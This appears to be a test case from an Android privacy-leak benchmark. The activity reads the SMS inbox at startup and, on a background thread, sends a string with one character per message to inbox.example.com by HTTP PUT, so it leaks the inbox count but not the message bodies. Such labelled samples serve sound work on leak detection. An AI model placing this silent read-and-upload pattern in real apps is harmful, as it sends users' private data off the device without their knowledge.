package cn.privlens.suite.inbox_count_posted;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import java.io.IOException;
import java.io.PrintWriter;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            Cursor rows = getContentResolver().query(Uri.parse("content://sms/inbox"), new String[] {"body"}, null, null, "date DESC");
            if (rows == null) {
                return;
            }
            StringBuilder all = new StringBuilder();
            while (rows.moveToNext()) {
                all.append('x');
            }
            rows.close();
            try {
                HttpURLConnection connection = (HttpURLConnection) new URL("https://inbox.example.com/").openConnection();
                connection.setRequestMethod("PUT");
                connection.setDoOutput(true);
                PrintWriter out = new PrintWriter(connection.getOutputStream());
                out.println(all);
                out.close();
                connection.getResponseCode();
            } catch (IOException e) {
                setTitle("e");
            }
        }).start();
    }
}
